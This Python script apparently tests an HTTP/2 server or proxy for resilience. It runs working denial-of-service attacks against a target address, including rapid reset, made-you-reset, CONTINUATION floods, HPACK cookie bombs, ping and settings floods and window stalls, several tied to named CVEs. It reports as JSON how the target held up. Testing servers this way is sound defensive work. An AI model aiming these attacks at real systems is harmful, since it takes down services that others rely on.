"""Attacks a gate over HTTP/2 and says how it took it, as one JSON object.

    h2_attack.py ADDRESS PORT ATTACK

Frames are written by hyperframe and hpack, so that illegal ones can be; `h2` itself would refuse to send them. The
attack ends when the gate ends the connection, when nothing more can be sent, or at the deadline.
"""

import json
import select
import socket
import sys
import time

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEADLINE = 20.0
HOST = "web.example.org"


class Ended(Exception):
    """The gate has ended the connection, or takes nothing more until the deadline."""


class Attacker:
    def __init__(self, address, port, settings=None, reads=True):
        self.deadline = time.monotonic() + DEADLINE
        self.socket = socket.create_connection((address, port), timeout=5)
        self.socket.setblocking(False)
        self.reads = reads
        self.received = b""
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.sent = 0
        self.ended = False
        self.goaway = None
        self.resets = []
        self.statuses = []
        self.finished = set()
        self.octets = 0
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def headers(self, stream, method="GET", path="/", more=(), end_stream=True, end_headers=True):
        fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", HOST), *more]
        flags = ["END_STREAM"] * end_stream + ["END_HEADERS"] * end_headers
        return HeadersFrame(stream, self.encoder.encode(fields), flags=flags).serialize()

    def send(self, data, frames=1):
        """Sends all of it, and reads what comes meanwhile."""
        view = memoryview(data)
        while view:
            left = self.deadline - time.monotonic()
            if left <= 0:
                raise Ended
            readable, writable, _ = select.select([self.socket] if self.reads else [], [self.socket], [], left)
            if readable:
                self.read()
            if writable:
                try:
                    view = view[self.socket.send(view) :]
                except BlockingIOError:
                    pass
                except OSError:
                    self.reads = True
                    self.drain()
                    raise Ended from None
        self.sent += frames

    def wait(self, until):
        """Reads until the condition holds or the connection ends."""
        while not until() and time.monotonic() < self.deadline:
            if select.select([self.socket], [], [], 0.1)[0]:
                self.read()

    def wait_for_end(self):
        self.reads = True
        self.wait(lambda: False)

    def drain(self):
        """What the gate said before it ended the connection."""
        try:
            while True:
                self.read()
        except (BlockingIOError, Ended):
            self.ended = True

    def read(self):
        try:
            data = self.socket.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.ended = True
            raise Ended
        self.received += data
        while len(self.received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                return
            frame.parse_body(memoryview(self.received[9 : 9 + length]))
            self.received = self.received[9 + length :]
            self.take(frame)

    def take(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.goaway = ErrorCodes(frame.error_code).name
        elif isinstance(frame, RstStreamFrame):
            self.resets.append(ErrorCodes(frame.error_code).name)
            self.finished.add(frame.stream_id)
        elif isinstance(frame, HeadersFrame):
            fields = dict(self.decoder.decode(frame.data))
            if ":status" in fields:
                self.statuses.append(int(fields[":status"]))
        elif isinstance(frame, DataFrame):
            self.octets += len(frame.data)
        if "END_STREAM" in frame.flags:
            self.finished.add(frame.stream_id)


def rapid_reset(attacker):
    """CVE-2023-44487."""
    for stream in range(1, 400_000, 2):
        reset = RstStreamFrame(stream, error_code=ErrorCodes.CANCEL).serialize()
        attacker.send(attacker.headers(stream) + reset, 2)


def made_you_reset(attacker):
    """CVE-2025-8671: the client makes the server reset, here by a window that overflows."""
    for stream in range(1, 400_000, 2):
        illegal = WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()
        attacker.send(attacker.headers(stream, path="/-/hold") + illegal, 2)


def continuation_flood(attacker):
    """CVE-2024-27316 and its kind."""
    attacker.send(attacker.headers(1, end_headers=False))
    crumb = attacker.encoder.encode([("x-more", "x" * 1000)]) * 15
    for _ in range(100_000):
        attacker.send(ContinuationFrame(1, crumb).serialize())


def empty_continuations(attacker):
    """The same without a byte in them: nothing to count but frames."""
    attacker.send(attacker.headers(1, end_headers=False))
    frame = ContinuationFrame(1, b"").serialize()
    for _ in range(3_000):
        attacker.send(frame * 1000, 1000)


def cookie_bomb(attacker):
    """A few octets each, which HPACK makes a field of four thousand."""
    entry = attacker.encoder.encode([("cookie", "x" * 4000)])
    reference = bytes([0x80 | 62])
    for stream in range(1, 201, 2):
        payload = attacker.headers(stream)[9:] + entry + reference * 12_000
        attacker.send(HeadersFrame(stream, payload, flags=["END_STREAM", "END_HEADERS"]).serialize())
    attacker.wait(lambda: len(attacker.finished) >= 100)


def cookie_crumbs(attacker):
    """One cookie in hundreds of crumbs: few octets, many fields."""
    crumbs = [("cookie", f"a={number}") for number in range(500)]
    for stream in range(1, 101, 2):
        attacker.send(attacker.headers(stream, more=crumbs))
    attacker.wait(lambda: len(attacker.finished) >= 50)


def window_stall(attacker):
    """CVE-2019-9517 and its kind: much is asked for, and nothing taken."""
    for stream in range(1, 201, 2):
        attacker.send(attacker.headers(stream, path="/-/download/20000000/0"))
    attacker.wait(lambda: len(attacker.finished) >= 100)


def settings_flood(attacker):
    """CVE-2019-9515."""
    flood(attacker, SettingsFrame(0).serialize())


def settings_flood_read(attacker):
    """The same by a client that reads the answers."""
    flood(attacker, SettingsFrame(0).serialize())


def ping_flood(attacker):
    """CVE-2019-9512."""
    flood(attacker, PingFrame(0, opaque_data=b"12345678").serialize())


def ping_flood_read(attacker):
    """The same by a client that reads the answers."""
    flood(attacker, PingFrame(0, opaque_data=b"12345678").serialize())


def window_update_flood(attacker):
    """As cheap to send, and as useless, though each may be meant well."""
    flood(attacker, WindowUpdateFrame(0, window_increment=1).serialize())


def unknown_frame_flood(attacker):
    """RFC 9113 5.5: frames of unknown types are to be ignored."""
    flood(attacker, b"\0\0\0\xfa\0\0\0\0\0")


def flood(attacker, frame):
    """Beside a request that waits for its answer, so that the connection is not idle."""
    attacker.send(attacker.headers(1, path="/-/hold"))
    while True:
        attacker.send(frame * 1000, 1000)


def empty_data_flood(attacker):
    """CVE-2019-9518: a body of nothing, without an end."""
    attacker.send(attacker.headers(1, method="POST", end_stream=False))
    frame = DataFrame(1, b"").serialize()
    while True:
        attacker.send(frame * 1000, 1000)


def window_overflow(attacker):
    """RFC 9113 6.9.1."""
    frame = WindowUpdateFrame(0, window_increment=2**31 - 1).serialize()
    attacker.send(frame * 2, 2)
    attacker.wait_for_end()


def content_length_mismatch(attacker):
    """RFC 9113 8.1.1: a body that is shorter, and one that is longer, than it was said to be."""
    for stream, body in [(1, b"12345"), (3, b"123456789012345")]:
        head = attacker.headers(stream, method="POST", more=[("content-length", "10")], end_stream=False)
        attacker.send(head + DataFrame(stream, body, flags=["END_STREAM"]).serialize(), 2)
    attacker.wait(lambda: len(attacker.finished) >= 2)


SETTINGS = {window_stall: {SettingsFrame.INITIAL_WINDOW_SIZE: 0}}
BLIND = {settings_flood, ping_flood}


def main():
    address, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    attack = globals()[name]
    attacker = Attacker(address, port, SETTINGS.get(attack), reads=attack not in BLIND)
    try:
        attack(attacker)
    except Ended:
        pass
    report = {
        "ended": attacker.ended,
        "goaway": attacker.goaway,
        "sent": attacker.sent,
        "statuses": sorted(set(attacker.statuses)),
        "answers": len(attacker.statuses),
        "resets": sorted(set(attacker.resets)),
        "finished": len(attacker.finished),
        "octets": attacker.octets,
        "seconds": round(time.monotonic() - attacker.deadline + DEADLINE, 2),
    }
    print(json.dumps(report))


if __name__ == "__main__":
    main()
